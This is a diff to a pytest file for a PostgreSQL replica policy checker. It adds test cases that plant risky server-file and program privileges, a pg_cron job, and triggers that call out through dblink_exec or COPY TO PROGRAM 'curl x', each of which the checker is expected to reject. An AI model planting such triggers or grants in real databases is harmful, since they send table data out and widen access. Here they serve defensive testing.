@@ -115,6 +115,21 @@ def test_a_replica_as_it_should_be_passes_every_check(replica: dict[str, Any]) -
             "GRANT INSERT ON raw.teams TO writer",
             "declared but not granted: insert on raw.teams to writer",
         ),
+        (
+            "ALTER ROLE writer CREATEROLE",
+            "ALTER ROLE writer NOCREATEROLE",
+            "reaches beyond its data: writer may make roles",
+        ),
+        (
+            "GRANT pg_read_server_files TO writer",
+            "REVOKE pg_read_server_files FROM writer",
+            "writer may pg_read_server_files",
+        ),
+        (
+            "GRANT pg_execute_server_program TO warehouse_owner",
+            "REVOKE pg_execute_server_program FROM warehouse_owner",
+            "developer may pg_execute_server_program",
+        ),
         ("CREATE TABLE raw.mine ()", "DROP TABLE raw.mine", "not owned by warehouse_owner: raw.mine"),
         ("COMMENT ON DATABASE shop IS 'x'", "SELECT 1", "was not restored from the snapshot"),
     ],
@@ -144,6 +159,26 @@ def test_a_replica_that_could_reach_other_systems_fails(replica: dict[str, Any])
             "DROP EXTENSION postgres_fdw CASCADE",
             "the foreign server far",
         ),
+        (
+            "CREATE SCHEMA cron; CREATE TABLE cron.job (jobid int, command text); INSERT INTO cron.job VALUES (7, 'x');"
+            "ALTER TABLE cron.job OWNER TO warehouse_owner",
+            "DROP SCHEMA cron CASCADE",
+            "the pg_cron job 7",
+        ),
+        (
+            "CREATE EXTENSION dblink; CREATE FUNCTION raw.tell() RETURNS event_trigger LANGUAGE plpgsql AS"
+            " $$ BEGIN PERFORM public.dblink_exec('host=x', 'y'); END $$;"
+            "CREATE EVENT TRIGGER telling ON ddl_command_end EXECUTE FUNCTION raw.tell()",
+            "DROP EVENT TRIGGER telling; DROP FUNCTION raw.tell; DROP EXTENSION dblink",
+            "the event trigger telling, which calls out",
+        ),
+        (
+            "CREATE FUNCTION raw.tell() RETURNS trigger LANGUAGE plpgsql AS"
+            " $$ BEGIN COPY raw.teams TO PROGRAM 'curl x'; RETURN NEW; END $$;"
+            "CREATE TRIGGER telling AFTER INSERT ON raw.teams EXECUTE FUNCTION raw.tell()",
+            "DROP FUNCTION raw.tell CASCADE",
+            "the trigger telling on raw.teams, which calls out",
+        ),
     ]
     for change, back, what in links:
         with altered(replica, change, back), pytest.raises(PolicyError, match=what):
@@ -151,10 +186,16 @@ def test_a_replica_that_could_reach_other_systems_fails(replica: dict[str, Any])
 
 
 def test_a_variable_that_points_at_production_is_named_without_its_value(replica: dict[str, Any]) -> None:
-    for value in ("postgresql://u:hunter2@DB.prod.example.com/x", "http://127.0.0.1:20002/", "x.db.prod.example.com"):
+    host, port = "db.prod.example.com", "127.0.0.1:20002"
+    for value, address in (
+        ("postgresql://u:hunter2@DB.prod.example.com/x", host),
+        ("http://127.0.0.1:20002/", port),
+        ("host=::1 port=20002", port),
+        ("x.db.prod.example.com", host),
+    ):
         with pytest.raises(PolicyError) as caught:
             verify(replica, variables=Secret({"A": "fine", "UPSTREAM": value}))
-        assert caught.value.what == "the variable UPSTREAM points at production"
+        assert caught.value.what == f"the variable UPSTREAM points at production ({address})"
         assert "hunter2" not in f"{caught.value} {caught.value.hint} {caught.value.details}"
     verify(replica, variables=Secret({"OTHER_PORT": "127.0.0.1:200021", "OTHER_HOST": "xdb.prod.example.com"}))
 
